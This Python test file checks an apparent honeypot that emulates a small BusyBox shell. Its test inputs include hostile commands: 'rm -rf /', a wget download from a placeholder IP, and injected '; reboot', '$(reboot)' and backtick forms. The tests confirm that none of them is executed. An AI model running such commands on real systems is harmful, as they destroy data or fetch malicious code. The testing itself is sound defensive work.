import subprocess
from pathlib import Path

import pytest

from lab import guard, plan, shell


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("enable", "sh: enable: not found"),
        ("sh", ""),
        ("/bin/busybox ECCHI", "ECCHI: applet not found"),
        ("/bin/busybox tftp", "tftp: applet not found"),
        ("/bin/busybox cat /proc/mounts", shell.MOUNTS),
        ("rm -rf /", ""),
        ("reboot", ""),
        ("", ""),
    ],
)
def test_the_answers_of_a_small_busybox(command: str, text: str) -> None:
    assert shell.answer(command) == text


def test_nothing_is_run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    def run(*_: object, **__: object) -> None:
        raise AssertionError("run")

    monkeypatch.setattr(subprocess, "run", run)
    lines = iter(["wget http://203.0.113.9/x", "; reboot", "$(reboot)", "`reboot` && ./x", "enable", "exit", "never"])
    shell.prompt(lambda _: next(lines), tmp_path / "none.json")
    assert capsys.readouterr().out.splitlines()[-1] == "sh: enable: not found"
    assert next(lines) == "never"


def test_a_session_ends(tmp_path: Path) -> None:
    lines = iter("x" * shell.MAX_LINES)
    shell.prompt(lambda _: next(lines), tmp_path / "none.json")
    assert next(lines, None) is None


def test_the_one_thing_that_is_fetched_takes_a_lab(tmp_path: Path) -> None:
    with pytest.raises(guard.Refused, match="not inside a lab"):
        shell.prompt(lambda _: f"wget {plan.PAYLOAD_URL}", tmp_path / "none.json")
